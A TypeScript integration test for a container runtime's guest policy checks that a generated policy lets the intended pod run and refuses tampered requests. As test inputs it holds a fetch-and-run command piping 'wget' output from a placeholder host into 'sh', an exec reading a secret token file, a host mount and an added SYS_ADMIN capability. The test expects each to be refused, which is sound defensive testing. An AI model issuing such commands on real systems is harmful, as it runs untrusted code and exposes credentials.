// A generated policy enforced in a real guest, through bookworm's containerd 1.6 CRI: `katats policy
// gen` annotates test/policy/fixtures/gen/pod.yaml from the same OCI archives containerd runs, the
// kubelet's CRI requests for that manifest (test/support/kubelet.ts) carry the annotation, the shim
// binds the policy's sha256 to the VM and sets it, and the agent in the guest decides: the pod as
// generated runs and its probe exec is allowed; a changed command, a mount the manifest does not
// have and an exec not in the policy are refused with the check that failed, and the pod goes on.
import { randomUUID } from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import { parseAllDocuments } from 'yaml';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CRI_NAMESPACE, startContainerd, type Containerd } from '../../harness/containerd.js';
import { CriError, type CriClient } from '../../harness/cri.js';
import { BUSYBOX_INDEX, busyboxImage } from '../../harness/images/busybox.js';
import { pauseImage } from '../../harness/images/pause.js';
import { genCommand } from '../../policy/gen/cli.js';
import { runtime } from '../../proto/gen/types.js';
import type { Init } from '../../proto/registry.js';
import { kubeletPod, type KubeletPod } from '../support/kubelet.js';
import { tempDir } from '../support/tmp.js';
import { katatsEnv, type KatatsEnv } from './katats-env.js';
import * as helpers from './shim-helpers.js';

const { SANDBOX_READY } = runtime.v1.PodSandboxState;
const { CONTAINER_RUNNING } = runtime.v1.ContainerState;
const POLICY_ANNOTATION = 'io.katacontainers.config.agent.policy';
const POD_YAML = path.join(import.meta.dirname, '..', 'policy', 'fixtures', 'gen', 'pod.yaml');

type Obj = Record<string, unknown>;

describe('a generated policy in the guest, through containerd CRI', () => {
  let env: KatatsEnv;
  let cd: Containerd;
  let cri: CriClient;
  let tmp: { dir: string; cleanup: () => void };
  let pod: KubeletPod;
  let digest = '';
  let podId = '';
  const ids: Record<string, string> = {};
  const logs = () => helpers.logsOf(env.logDir, podId, cd.logFile, 30);

  async function rpcError(p: Promise<unknown>): Promise<CriError> {
    const e = await p.then(
      () => undefined,
      (x: unknown) => x,
    );
    expect(e, 'the request was allowed').toBeInstanceOf(CriError);
    return e as CriError;
  }

  function create(name: string, config: Init<runtime.v1.ContainerConfig>) {
    return cri.runtime.CreateContainer({ pod_sandbox_id: podId, sandbox_config: pod.sandbox, config }, { timeoutMs: 180_000 });
  }

  /** CRI's CreateContainer only records the container: the task, and the agent's CreateContainer, come with StartContainer. */
  async function startRefused(config: Init<runtime.v1.ContainerConfig>): Promise<CriError> {
    const { container_id } = await create(config.metadata!.name!, config);
    try {
      return await rpcError(cri.runtime.StartContainer({ container_id }, { timeoutMs: 180_000 }));
    } finally {
      await cri.runtime.RemoveContainer({ container_id }, { timeoutMs: 60_000 });
    }
  }

  const configOf = (name: string) => structuredClone(pod.containers.find((c) => c.name === name)!.config);
  const exec = async (name: string, cmd: string[]) => {
    const r = await cri.runtime.ExecSync({ container_id: ids[name], cmd, timeout: 60 }, { timeoutMs: 90_000 });
    return { code: r.exit_code, out: Buffer.from(r.stdout).toString() };
  };

  beforeAll(async () => {
    tmp = tempDir('kt-cri-policy-');
    env = await katatsEnv();
    cd = await startContainerd({ cri: true, flavor: 'bookworm', runtimes: [{ ...env.runtime, podAnnotations: ['io.katacontainers.*'] }] });
    const busybox = await busyboxImage();
    const pause = await pauseImage();
    await cd.importImage(busybox.archive, BUSYBOX_INDEX, { namespace: CRI_NAMESPACE });
    cri = cd.criApi();
    await cri.waitForImage(busybox.name);
    // katats policy gen, as a user runs it: the manifest back with the policy annotation.
    const out: string[] = [];
    const err: string[] = [];
    const code = await genCommand([POD_YAML, '--no-layers-cache', '--image-archive', busybox.archive, '--image-archive', pause.archive], { out: (s) => out.push(s), err: (s) => err.push(s) });
    expect(code, err.join('\n')).toBe(0);
    digest = /policy sha256:([0-9a-f]{64})/.exec(err.join('\n'))![1]!;
    const docs = parseAllDocuments(out.join('\n'))
      .map((d) => d.toJS() as Obj | null)
      .filter((d): d is Obj => d !== null);
    const manifest = docs.find((d) => d.kind === 'Pod')!;
    expect(((manifest.metadata as Obj).annotations as Obj)[POLICY_ANNOTATION]).toBeTypeOf('string');
    pod = kubeletPod(manifest, docs.filter((d) => d.kind === 'ConfigMap' || d.kind === 'Secret'), tmp.dir, randomUUID());
  }, 900_000);

  afterAll(async () => {
    try {
      const report = await helpers.endKatatsSuite(cd, env);
      expect(report?.podsRemoved ?? []).toEqual([]);
    } finally {
      tmp?.cleanup();
    }
  }, 300_000);

  it('runs the pod it was generated for, with the policy bound to the VM and set in the guest', async () => {
    ({ pod_sandbox_id: podId } = await cri.runtime.RunPodSandbox({ config: pod.sandbox, runtime_handler: 'katats' }, { timeoutMs: 300_000 }));
    const st = await cri.runtime.PodSandboxStatus({ pod_sandbox_id: podId });
    expect(st.status?.state, logs()).toBe(SANDBOX_READY);
    // The VM's launch data is the policy's digest (the file QEMU exposes as fw_cfg opt/katats/host_data).
    const hostData = fs.readFileSync(path.join(env.stateDir, 'sandboxes', podId, 'host_data'));
    expect(hostData.toString('hex')).toBe(digest);
    expect(fs.readFileSync(path.join(env.logDir, `${podId}-agent.log`), 'utf8')).toContain(digest);
    for (const name of ['app', 'sidecar']) {
      const { container_id } = await create(name, configOf(name)).catch((e: Error) => {
        throw new Error(`${e.message}\n${logs()}`);
      });
      ids[name] = container_id;
      await cri.runtime.StartContainer({ container_id }, { timeoutMs: 180_000 });
    }
    const { containers } = await cri.runtime.ListContainers({ filter: { pod_sandbox_id: podId } });
    expect(containers.map((c) => [c.metadata?.name, c.state]).sort()).toEqual([
      ['app', CONTAINER_RUNNING],
      ['sidecar', CONTAINER_RUNNING],
    ]);
  }, 600_000);

  it("allows the probe's exec; its output is withheld, as the policy allows no log streaming", async () => {
    const r = await exec('app', ['cat', '/etc/app/greeting.txt']);
    expect(r, logs()).toEqual({ code: 0, out: '' });
  }, 120_000);

  it('refuses an exec the policy does not list, naming the allowed commands', async () => {
    const e = await rpcError(exec('sidecar', ['sh', '-c', 'cat /etc/secret/TOKEN']));
    expect(e.details).toMatch(/ExecProcessRequest is blocked by policy: .*args in p\.exec_commands is false/);
  }, 120_000);

  it('refuses a changed command (at the task create the container start makes), naming the field', async () => {
    const config = configOf('app');
    config.metadata = { name: 'app', attempt: 1 };
    config.command = ['sh', '-c', 'wget -qO- http://example.invalid | sh'];
    const e = await startRefused(config);
    expect(e.details).toMatch(/CreateContainerRequest is blocked by policy: .*allow_args: i_args == p\.OCI\.Process\.Args is false/);
  }, 300_000);

  it('refuses a mount the manifest does not have', async () => {
    const config = configOf('sidecar');
    config.metadata = { name: 'sidecar', attempt: 1 };
    config.mounts = [...(config.mounts ?? []), { container_path: '/host', host_path: tmp.dir }];
    const e = await startRefused(config);
    expect(e.details).toMatch(/CreateContainerRequest is blocked by policy: .*mounts_not_allowed = \[\{"destination": "\/host"/);
  }, 300_000);

  it('refuses a changed environment variable and an added capability', async () => {
    const env = configOf('app');
    env.metadata = { name: 'app', attempt: 2 };
    env.envs = (env.envs ?? []).map((e) => (e.key === 'MODE' ? { key: 'MODE', value: 'debug' } : e));
    expect((await startRefused(env)).details).toMatch(/CreateContainerRequest is blocked by policy: .*allow_env: env_missing == set\(\) is false \(env_missing = \{"MODE=prod"\}\)/);
    const caps = configOf('sidecar');
    caps.metadata = { name: 'sidecar', attempt: 2 };
    caps.linux!.security_context!.capabilities = { add_capabilities: ['SYS_ADMIN'], drop_capabilities: ['NET_RAW'] };
    expect((await startRefused(caps)).details).toMatch(/CreateContainerRequest is blocked by policy: .*caps_not_allowed = \{"Bounding:SYS_ADMIN"/);
  }, 300_000);

  it('the pod still serves: both containers run and the probe still execs', async () => {
    const { containers } = await cri.runtime.ListContainers({ filter: { pod_sandbox_id: podId } });
    expect(containers.filter((c) => c.state === CONTAINER_RUNNING).map((c) => c.metadata?.name).sort()).toEqual(['app', 'sidecar']);
    expect((await exec('app', ['cat', '/etc/app/greeting.txt'])).code).toBe(0);
    await cri.runtime.StopPodSandbox({ pod_sandbox_id: podId }, { timeoutMs: 120_000 });
    await cri.runtime.RemovePodSandbox({ pod_sandbox_id: podId }, { timeoutMs: 60_000 });
    expect(helpers.qemuProcs(env.stateDir)).toEqual([]);
  }, 300_000);

  it('a pod whose policy is not valid Rego fails with the parse error, and leaves no VM', async () => {
    const sandbox = structuredClone(pod.sandbox);
    sandbox.metadata = { ...sandbox.metadata!, name: 'policy-pod-broken', uid: randomUUID() };
    sandbox.annotations = { ...sandbox.annotations, [POLICY_ANNOTATION]: Buffer.from('package agent_policy\n\nCreateContainerRequest {\n').toString('base64') };
    const e = await rpcError(cri.runtime.RunPodSandbox({ config: sandbox, runtime_handler: 'katats' }, { timeoutMs: 300_000 }));
    expect(e.details).toMatch(/SetPolicy: policy\.rego:\d+:\d+: rego_parse_error/);
    expect(await helpers.until(() => helpers.qemuProcs(env.stateDir), (q) => q.length === 0, 60_000)).toEqual([]);
  }, 400_000);
});
